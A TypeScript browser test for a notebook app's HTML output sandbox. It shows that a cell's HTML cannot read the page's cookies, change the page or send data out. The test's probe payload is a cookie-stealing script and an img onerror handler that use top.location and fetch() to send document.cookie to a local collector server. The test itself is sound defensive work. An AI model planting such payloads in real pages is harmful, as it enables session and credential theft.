/**
 * HTML a cell displays cannot reach the page that shows it: a cell's HTML
 * tries to read the cookie set on cellgate's origin (its own document.cookie
 * and parent.document.cookie), write it into its own DOM, send it away by
 * navigating the top window and by loading an image from another server. The
 * frame is sandboxed (opaque origin, no scripts) with a CSP: nothing of it
 * happens, and the page is unchanged.
 *
 *   cellgate page --srcdoc--> <iframe sandbox=""> --x--> cookie, top window, collector
 */
import { createServer, type Server } from 'node:http'
import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { chromiumMissing, useBrowser } from '../support/browser.ts'
import { describeWith } from '../support/needs.ts'
import { freePort, startTestCluster, type TestCluster } from '../support/test-cluster.ts'

describeWith(chromiumMissing(), 'HTML output isolation in a browser', () => {
  const browser = useBrowser()
  let cluster: TestCluster
  let collector: Server
  let collectorUrl: string
  const collected: string[] = []

  beforeAll(async () => {
    cluster = await startTestCluster()
    // Where a successful exfiltration would land.
    const port = await freePort()
    collector = createServer((req, res) => {
      collected.push(req.url ?? '')
      res.end()
    })
    await new Promise<void>((resolve) => collector.listen(port, '127.0.0.1', resolve))
    collectorUrl = `http://127.0.0.1:${port}`
  })
  afterAll(async () => {
    await cluster?.close()
    // The browser, still open, may hold keep-alive connections.
    collector?.closeAllConnections()
    await new Promise((resolve) => collector?.close(resolve))
  })

  it("cannot read the page's cookies or change the page", async () => {
    const secret = `secret-${randomUUID()}`
    await browser.context.addCookies([{ name: 'cellgate_probe', value: secret, url: cluster.url }])
    const steal = [
      '<p id="probe">untouched</p>',
      '<script>',
      "  const probe = document.getElementById('probe')",
      "  try { probe.textContent = 'own:' + document.cookie } catch (e) { probe.textContent = 'own failed' }",
      "  try { probe.textContent += ' parent:' + parent.document.cookie } catch (e) {}",
      "  try { parent.document.title = 'owned' } catch (e) {}",
      `  top.location = '${collectorUrl}/navigate?c=' + encodeURIComponent(document.cookie)`,
      '</script>',
      `<img src="${collectorUrl}/image" alt="">`,
      `<img src="x" onerror="fetch('${collectorUrl}/onerror?c=' + document.cookie)">`,
    ].join('\n')
    const code = `display.html(${JSON.stringify(steal)})\n'shown'`

    const page = browser.page
    await page.goto(cluster.url)
    // The cookie is there, and the page's own scripts can read it: what follows is not vacuous.
    expect(await page.evaluate(() => document.cookie)).toContain(secret)
    const editor = page.getByRole('textbox', { name: 'Cell code' })
    await editor.click()
    await page.keyboard.press('Control+A')
    await page.keyboard.insertText(code)
    await page.getByRole('button', { name: 'Run' }).click()
    await page.locator('[role=status] [data-status=done]').waitFor()
    const cellUrl = page.url()
    const title = await page.title()

    const iframe = page.locator('iframe[title^="HTML output"]')
    await iframe.waitFor()
    expect(await iframe.getAttribute('sandbox')).toBe('')
    const output = (await (await iframe.elementHandle())!.contentFrame())!
    await output.waitForLoadState('load')

    // Its scripts never ran: the probe still says what the markup says.
    expect(await output.locator('#probe').textContent()).toBe('untouched')
    // Its origin is opaque: even code run inside it cannot read cookies.
    const fromInside = await output.evaluate(() => {
      try {
        return document.cookie
      } catch (e) {
        return `blocked: ${(e as Error).name}`
      }
    })
    expect(fromInside).toBe('blocked: SecurityError')

    expect(page.url()).toBe(cellUrl)
    expect(await page.title()).toBe(title)
    expect(await page.locator('body').innerText()).not.toContain(secret)
    expect(collected).toEqual([])
  })
})
